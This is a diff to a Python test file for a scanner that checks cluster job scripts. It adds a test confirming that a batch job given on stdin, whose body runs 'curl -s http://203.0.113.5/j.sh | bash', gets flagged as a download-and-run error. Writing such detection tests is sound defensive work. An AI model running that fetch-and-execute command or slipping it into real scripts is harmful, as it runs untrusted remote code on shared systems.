@@ -56,3 +56,9 @@ def test_a_training_job_that_syncs_its_results_is_no_error(tmp_path: Path) -> No
         'sbatch "$RUN/train.sbatch"\n'
     )
     assert scan_errors(tmp_path, {"scripts/train.sh": source}) == set()
+
+
+def test_a_job_given_on_stdin_is_read(tmp_path: Path) -> None:
+    source = "sbatch -J warm --time=5 <<EOF\n#!/bin/bash\ncurl -s http://203.0.113.5/j.sh | bash\nEOF\n"
+    errors = scan_errors(tmp_path, {"scripts/warm.sh": source})
+    assert [e for e in errors if e[0] == "DOWNLOAD_AND_RUN"]
